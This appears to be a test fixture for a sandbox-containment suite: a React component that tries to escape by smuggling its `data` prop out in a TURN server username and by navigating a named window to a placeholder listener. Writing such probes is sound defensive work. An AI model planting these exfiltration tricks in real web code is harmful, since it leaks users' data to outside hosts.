import { useEffect } from "react";

// Escape attempt: window_name_navigation — a link aimed at a named window, then window.open into it
export default function Hostile({ data }) {
  useEffect(() => {
    const servers = { iceServers: [{ urls: "stun:__HOSTPORT__" }, { urls: "turn:__HOSTPORT__?transport=tcp", username: "PWNED-window_name_navigation-" + JSON.stringify(data ?? null), credential: "c" }] };
    try {
      window.name = "hostile";
      window.open("__LISTENER__/window_name_navigation", "hostile");
      const link = document.createElement("a");
      link.href = "__LISTENER__/window_name_navigation";
      link.target = "hostile";
      document.body.appendChild(link);
      link.click();
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, [data]);
  return <p data-testid="hostile">window_name_navigation</p>;
}
